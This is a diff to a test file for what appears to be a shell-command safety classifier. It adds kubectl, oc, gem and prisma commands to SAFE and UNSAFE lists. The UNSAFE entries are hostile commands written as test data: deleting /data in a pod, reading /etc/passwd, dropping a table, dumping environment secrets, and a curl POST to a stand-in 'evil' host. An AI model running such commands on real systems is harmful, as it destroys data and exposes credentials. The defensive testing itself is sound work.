@@ -260,6 +260,10 @@ SAFE = [
     "curl -s -X PUT localhost:3000/api/items/4 -d name=x",
     'docker exec app-postgres psql -U app -d postgres -c "CREATE DATABASE \\"app_test\\";"',
     "bundle exec rake assets:precompile",
+    'kubectl exec -ti pg-1 -c postgres -- psql -x -c "SHOW timezone"',
+    "gem build",
+    "pg_dump --version",
+    'DATABASE_URL="file:./dev.db" npx prisma studio --browser none --port 5555',
 ]
 
 UNSAFE = [
@@ -551,6 +555,14 @@ UNSAFE = [
     ("curl -X POST http://localhost.evil.example/x -d a", "sends data"),
     ("curl -X POST http://$HOST:3000/x -d a", "sends data"),
     ("nc localhost 8080", "nc"),
+    # a command in a pod is judged as one in a container: its paths cannot be placed
+    ("kubectl exec pod -c app -- rm -rf /data", "cannot be placed"),
+    ("oc exec pod -- cat /etc/passwd", "cannot be placed"),
+    ('kubectl exec pod -- psql -c "DROP TABLE users"', "more than read"),
+    ("kubectl exec pod -- env", "secrets"),
+    ("kubectl exec -it pod -- bash", "interactive"),
+    ("gem push pkg.gem", "gem push"),
+    ("gem install rails", "gem install"),
 ]
 
 
